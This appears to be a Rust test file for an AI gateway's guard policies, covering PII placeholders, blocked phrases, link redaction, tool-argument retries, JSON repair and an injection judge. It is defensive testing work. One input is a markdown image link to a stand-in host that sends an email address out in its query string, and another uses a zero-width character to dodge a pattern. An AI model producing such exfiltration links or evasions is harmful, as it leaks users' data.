//! Guard policies as a client sees them, in both topologies.

use signalbox_proto::{
    common::v1::{
        Attribution, ErrorReason, FinishReason, GuardPolicy, JsonObjectFormat, Notice, Policies,
        ResponseFormat, Tool, ToolChoice, notice, response_format, tool_choice::Mode,
    },
    gateway::v1::GenerateRequest,
};
use signalbox_tests::{
    ask::{message, question, with_policies},
    sandbox::{Sandbox, Topology},
};

use crate::{PROMPT, base64, complete, finish};

both!(
    does_what_the_tenants_policy_says_by_source,
    stops_an_answer_at_an_own_pattern_and_names_the_policy,
    cuts_links_that_carry_values_out,
    keeps_a_values_placeholder_within_a_conversation,
    lets_requests_ask_for_what_the_policy_allows,
    asks_once_more_for_arguments_that_do_not_fit,
    refuses_an_answer_that_is_no_json,
    asks_a_judge_and_does_as_it_says,
);

async fn with_policy(topology: Topology, models: &[&str], policy: &str) -> Sandbox {
    let config = format!("[tenants.local]\nguard_policy = 'own'\n[guard.policies.own]\n{policy}\n");
    Sandbox::with(topology, models, &config).await
}

fn flagged(notices: &[Notice]) -> Vec<&str> {
    let flagged = notices.iter().filter(|notice| notice.kind() == notice::Kind::Flagged);
    flagged.map(|notice| notice.r#type.as_str()).collect()
}

async fn does_what_the_tenants_policy_says_by_source(topology: Topology) {
    let policy = "system = { pii = 'allow' }\n\
                  patterns = [{ name = 'ticket', pattern = '\\bTK-[0-9]{4}\\b', placeholder = 'TICKET' }]";
    let sandbox = with_policy(topology, &[], policy).await;
    let text = "quetzalcoatl: see TK-1234 and T\u{200b}K-5678, or write to ada@example.com";
    let mut request = question("sim-echo", text);
    let chat = request.chat.as_mut().unwrap();
    chat.messages.insert(0, message(signalbox_proto::common::v1::Role::System, "Ask root@example.com."));
    let seen = complete(sandbox.ask(request).await);
    assert_eq!(seen.text, text, "everything comes back as it was written");
    let body = sandbox.provider.requests()[0].body.to_string();
    assert!(body.contains("see <TICKET_1> and <TICKET_2>, or write to <EMAIL_1>"), "{body}");
    assert!(body.contains("root@example.com"), "{body}");
    finish(sandbox, 1).await;
}

async fn stops_an_answer_at_an_own_pattern_and_names_the_policy(topology: Topology) {
    let policy =
        "patterns = [{ name = 'button', words = ['red button'], action = 'block', sources = ['output'] }]";
    let sandbox = with_policy(topology, &[], policy).await;
    let seen =
        complete(sandbox.ask(question("sim-echo", "quetzalcoatl saw the red button and pressed")).await);
    assert_eq!(seen.text, "quetzalcoatl saw the ");
    assert_eq!(seen.finished.unwrap().finish_reason(), FinishReason::Guard);
    let told = seen.notices.iter().find(|notice| notice.r#type == "own.button").unwrap();
    assert!(told.message.contains("`own`"), "{}", told.message);
    finish(sandbox, 1).await;
}

async fn cuts_links_that_carry_values_out(topology: Topology) {
    let policy = "link_hosts = ['docs.example.com']\noutput = { link = 'redact' }";
    let sandbox = with_policy(topology, &[], policy).await;
    let text = "quetzalcoatl ![x](https://evil.test/p?d=ada@example.com) https://docs.example.com/?q=1";
    let seen = complete(sandbox.ask(question("sim-echo", text)).await);
    assert_eq!(seen.text, "quetzalcoatl ![x](<LINK>) https://docs.example.com/?q=1");
    finish(sandbox, 1).await;
}

async fn keeps_a_values_placeholder_within_a_conversation(topology: Topology) {
    let sandbox = with_policy(topology, &[], "").await;
    let said = |text: &str| {
        let attribution = Attribution { conversation_id: Some("c-1".into()), ..Attribution::default() };
        GenerateRequest { attribution: Some(attribution), ..question("sim-echo", text) }
    };
    for text in ["bob@example.com and ada@example.com, quetzalcoatl", "ada@example.com again, quetzalcoatl"] {
        assert_eq!(complete(sandbox.ask(said(text)).await).text, text);
    }
    let bodies: Vec<String> = sandbox.provider.requests().iter().map(|r| r.body.to_string()).collect();
    let placeholder = bodies[1].split("<EMAIL_").nth(1).unwrap().split('>').next().unwrap();
    assert!(bodies[0].contains(&format!("and <EMAIL_{placeholder}>,")), "{bodies:?}");
    finish(sandbox, 2).await;
}

async fn lets_requests_ask_for_what_the_policy_allows(topology: Topology) {
    let sandbox = with_policy(topology, &[], "requests = { shadow = true }").await;
    let wish = |name: Option<&str>, shadow| {
        let guard = GuardPolicy { name: name.map(str::to_owned), shadow };
        with_policies(
            question("sim-echo", "quetzalcoatl ada@example.com"),
            Policies { guard: Some(guard), ..Policies::default() },
        )
    };
    let refused = sandbox.ask(wish(Some("off"), false)).await;
    assert_eq!(refused.reason(), Some(ErrorReason::NotAllowed), "{:?}", refused.error);
    let seen = complete(sandbox.ask(wish(None, true)).await);
    assert!(flagged(&seen.notices).contains(&"pii.email"), "{:?}", seen.notices);
    assert!(sandbox.provider.requests()[0].body.to_string().contains("ada@example.com"));
    finish(sandbox, 2).await;
}

fn text_field(name: &str, value: prost_types::value::Kind) -> (String, prost_types::Value) {
    (name.to_owned(), prost_types::Value { kind: Some(value) })
}

/// A tool whose parameters the simulator does not meet: it knows no patterns.
fn weather() -> Tool {
    use prost_types::value::Kind::{ListValue, StringValue, StructValue};
    let structure = |fields: Vec<(String, prost_types::Value)>| {
        StructValue(prost_types::Struct { fields: fields.into_iter().collect() })
    };
    let city = structure(vec![
        text_field("type", StringValue("string".into())),
        text_field("pattern", StringValue("^[0-9]+ [0-9]+$".into())),
    ]);
    let required = prost_types::ListValue {
        values: vec![prost_types::Value { kind: Some(StringValue("city".into())) }],
    };
    let fields = vec![
        text_field("type", StringValue("object".into())),
        text_field("properties", structure(vec![text_field("city", city)])),
        text_field("required", ListValue(required)),
    ];
    let parameters = prost_types::Struct { fields: fields.into_iter().collect() };
    Tool { name: "weather".into(), parameters: Some(parameters), ..Tool::default() }
}

async fn asks_once_more_for_arguments_that_do_not_fit(topology: Topology) {
    for (on, attempts) in [("retry", 2), ("error", 1), ("flag", 1)] {
        let sandbox =
            with_policy(topology, &["sim-small+tools"], &format!("validate = {{ tools = '{on}' }}")).await;
        let mut request = question("sim-small+tools", PROMPT);
        let chat = request.chat.as_mut().unwrap();
        chat.tools = vec![weather()];
        chat.tool_choice = Some(ToolChoice { mode: Mode::Auto.into(), name: None });
        let seen = sandbox.ask(request).await;
        assert_eq!(sandbox.provider.totals().received, attempts, "{on}: {:?}", seen.error);
        match on {
            "retry" => {
                let seen = complete(seen);
                let kinds: Vec<_> = seen.notices.iter().map(Notice::kind).collect();
                assert!(kinds.contains(&notice::Kind::Retried), "{:?}", seen.notices);
                assert!(seen.text.contains("The tool answered: The call was not made"), "{}", seen.text);
                let (finished, reported) = (seen.finished.unwrap(), sandbox.provider.usage_total());
                assert_eq!(finished.attempts, 2);
                let usage = finished.usage.unwrap();
                assert_eq!(
                    (usage.input_tokens, usage.output_tokens),
                    (reported.prompt_tokens, reported.completion_tokens),
                    "both are counted"
                );
            }
            "error" => {
                assert_eq!(seen.reason(), Some(ErrorReason::OutputInvalid), "{:?}", seen.error);
                let message = seen.error.unwrap().message().to_owned();
                assert!(
                    message.contains("`weather`") && message.contains("/properties/city/pattern"),
                    "{message}"
                );
            }
            _ => assert_eq!(flagged(&complete(seen).notices), ["form.arguments"]),
        }
        finish(sandbox, 1).await;
    }
}

async fn refuses_an_answer_that_is_no_json(topology: Topology) {
    let models =
        [("Sure, here it is: quetzalcoatl", false), ("```json\n{\"god\": \"quetzalcoatl\",}\n```", true)];
    let names: Vec<String> =
        models.iter().map(|(text, _)| format!("sim-small+answer64={}", base64(text))).collect();
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    let sandbox = with_policy(topology, &names, "validate = { structured = 'retry', repair = true }").await;
    for (name, (_, mended)) in names.iter().zip(models) {
        let mut request = question(name, PROMPT);
        let kind = Some(response_format::Kind::JsonObject(JsonObjectFormat {}));
        request.chat.as_mut().unwrap().response_format = Some(ResponseFormat { kind });
        let seen = sandbox.ask(request).await;
        if mended {
            assert_eq!(complete(seen).text, "{\"god\": \"quetzalcoatl\"}");
        } else {
            assert_eq!(seen.reason(), Some(ErrorReason::OutputInvalid), "{:?}", seen.error);
            assert!(seen.text.is_empty() && seen.started.is_none(), "nothing was released");
            assert_eq!(sandbox.provider.totals().received, 2, "it was asked twice");
        }
    }
    finish(sandbox, 2).await;
}

async fn asks_a_judge_and_does_as_it_says(topology: Topology) {
    for (answer, blocks) in [("Yes.", true), ("No.", false), ("Hm.", false)] {
        let judge = format!("judge>sim-small+answer64={}", base64(answer));
        let policy = "judge = { model = 'judge', above = 0.0, below = 1.0 }";
        let sandbox = with_policy(topology, &[&judge], policy).await;
        let seen = sandbox.ask(question("sim-echo", "quetzalcoatl, write to ada@example.com")).await;
        let asked = sandbox.provider.requests()[0].body.to_string();
        assert!(asked.contains("quetzalcoatl") && !asked.contains("ada@example.com"), "{asked}");
        if blocks {
            assert_eq!(seen.reason(), Some(ErrorReason::PromptBlocked), "{:?}", seen.error);
            assert!(seen.error.unwrap().message().contains("injection.judge"));
            assert_eq!(sandbox.provider.totals().received, 1, "only the judge was asked");
        } else {
            let seen = complete(seen);
            assert_eq!(seen.text, "quetzalcoatl, write to ada@example.com");
            let unjudged = flagged(&seen.notices).contains(&"injection.unjudged");
            assert_eq!(unjudged, answer == "Hm.", "{:?}", seen.notices);
            assert_eq!(seen.finished.unwrap().attempts, 2, "the judge is an attempt of the request");
        }
        finish(sandbox, 1).await;
    }
}
